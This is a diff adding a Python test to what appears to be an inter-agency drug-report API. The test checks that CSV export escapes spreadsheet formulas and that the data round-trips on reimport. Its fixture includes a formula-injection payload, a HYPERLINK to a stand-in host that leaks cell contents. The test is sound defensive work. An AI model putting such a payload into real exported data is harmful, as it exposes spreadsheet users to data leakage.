@@ -134,3 +134,15 @@ def test_export_csv_and_jsonl_and_reimport(world: World) -> None:
     mine = world.client.get("/api/v1/reports", params={"agency": "FIOD", "limit": 10}, headers=fiod.headers).json()
     assert mine["total"] == 6
     assert {i["substance"]["inchikey"] for i in mine["items"]} == {row["inchikey"] for row in rows}
+
+
+def test_csv_export_defuses_spreadsheet_formulas_and_round_trips(world: World) -> None:
+    dea, fiod = world.agency("DEA", "US"), world.agency("FIOD", "NL")
+    formula = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    world.report(dea, notes=formula, case_ref="+1-555", region="@home")
+    text = world.client.get("/api/v1/reports/export", headers=dea.headers).text
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert (row["notes"], row["case_ref"], row["region"]) == ("'" + formula, "'+1-555", "'@home")
+    assert _import(world, fiod, text.encode()).status_code == 201
+    again = world.client.get("/api/v1/reports", params={"agency": "FIOD"}, headers=fiod.headers).json()["items"][0]
+    assert (again["notes"], again["case_ref"], again["region"]) == (formula, "+1-555", "@home")
